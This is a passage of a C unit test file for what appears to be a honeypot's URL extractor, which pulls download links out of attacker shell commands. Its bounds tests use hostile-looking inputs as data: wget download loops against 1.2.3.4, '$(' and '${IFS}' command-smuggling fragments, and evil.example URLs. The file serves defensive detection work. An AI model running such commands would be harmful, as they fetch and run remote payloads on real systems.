    assert_int_equal(hp_urlx_normalize(nul_user, sizeof(nul_user) - 1, NULL, out, sizeof(out)), -1);
    static const char nul_user2[] = "http://a\0b@evil.example/";
    assert_int_equal(hp_urlx_normalize(nul_user2, sizeof(nul_user2) - 1, NULL, out, sizeof(out)), -1);
    char small[8];
    assert_int_equal(hp_urlx_normalize("http://evil.example/", 20, NULL, small, sizeof(small)), -1);
    assert_int_equal(hp_urlx_normalize("tcp://1.2.3.4", 13, NULL, small, sizeof(small)), -1);
}

/* ---- bounds ------------------------------------------------------------------------------ */

#define MIB (1024 * 1024)

static char *repeat(const char *unit, size_t total)
{
    size_t ul = strlen(unit);
    char *b = malloc(total + 1);
    assert_non_null(b);
    for (size_t i = 0; i < total; i++)
        b[i] = unit[i % ul];
    b[total] = '\0';
    return b;
}

static void test_bounds_hostile(void **state)
{
    (void)state;
    static const char *const units[] = {
        "A", "http://", "$(", "%25", "wget ", "'", "\"", "${IFS}", "\\x41", "&amp;",
        "http://1.2.3.4/", "wget http://1.2.3.4/$a ", "for a in 1 2 3 4 5 6 7 8 9; do wget 1.2.3.4/$a; ",
        "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ", "downloadfile", "x=1 ", "(",
    };
    for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++) {
        char *b = repeat(units[i], MIB);
        size_t n = scan_n(b, MIB);
        assert_true(n <= HP_URLX_MAX);
        free(b);
    }
    /* 100k nested %25 layers: "%252525...2541" decodes one level per layer. */
    char *b = malloc(3 + 200000 + 1);
    assert_non_null(b);
    b[0] = '%';
    for (size_t i = 0; i < 100000; i++)
        memcpy(b + 1 + 2 * i, "25", 2);
    memcpy(b + 1 + 200000, "41", 3);
    scan_n(b, strlen(b));
    free(b);
    /* One huge URL is skipped, not truncated. */
    b = repeat("a", 5000);
    memcpy(b, "http://1.2.3.4/", 15);
    assert_int_equal(scan_n(b, 5000), 0);
    free(b);
}

static void test_bounds_max(void **state)
{
    (void)state;
    char *b = malloc(70 * 64 + 1);
    assert_non_null(b);
    size_t o = 0;
    for (int i = 0; i < 70; i++)
        o += (size_t)sprintf(b + o, "wget http://1.2.3.4/f%d;\n", i);
    assert_int_equal(scan_n(b, o), HP_URLX_MAX);
    assert_string_equal(R.h[0].url, "http://1.2.3.4/f0");
    assert_string_equal(R.h[63].url, "http://1.2.3.4/f63");
    free(b);
    assert_int_equal(hp_urlx_scan(NULL, 5, collect, &R), 0);
    assert_int_equal(hp_urlx_scan("x", 0, collect, &R), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_arena_full),
        cmocka_unit_test(test_wget),
        cmocka_unit_test(test_curl),
        cmocka_unit_test(test_tftp),
        cmocka_unit_test(test_ftpget), cmocka_unit_test(test_every_command_word),
        cmocka_unit_test(test_ftp_script),
        cmocka_unit_test(test_nc),
        cmocka_unit_test(test_shell_skip_edges),
        cmocka_unit_test(test_shell_skip_every_name),
        cmocka_unit_test(test_mirai_wget_g),
        cmocka_unit_test(test_ifs),
        cmocka_unit_test(test_urlencoded),
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_hex),
        cmocka_unit_test(test_escape_runs),
        cmocka_unit_test(test_json_xml),
        cmocka_unit_test(test_sql),
        cmocka_unit_test(test_redis_cron),
        cmocka_unit_test(test_oneliners),
        cmocka_unit_test(test_bins_sh),
        cmocka_unit_test(test_variables),
        cmocka_unit_test(test_nested_quotes),
        cmocka_unit_test(test_reject),
        cmocka_unit_test(test_literal_edges),
        cmocka_unit_test(test_xml_vocabulary),
        cmocka_unit_test(test_encoded_terminators),
        cmocka_unit_test(test_precedence_order),
        cmocka_unit_test(test_normalize),
        cmocka_unit_test(test_bounds_hostile),
        cmocka_unit_test(test_bounds_max),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
